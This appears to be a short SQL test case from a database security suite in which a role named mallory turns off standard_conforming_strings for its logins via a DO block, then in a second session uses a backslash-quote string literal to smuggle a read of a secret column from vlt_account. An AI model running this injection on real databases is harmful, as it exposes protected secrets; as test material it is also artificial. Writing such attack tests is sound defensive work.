-- The same for logins to this database only, by a block of code.
-- wants: read
-- attack:
DO $$ BEGIN EXECUTE format('ALTER ROLE mallory IN DATABASE %I SET standard_conforming_strings = off', current_database()); END $$;
-- session: second
-- together
SELECT 'a\'', secret FROM vlt_account --'
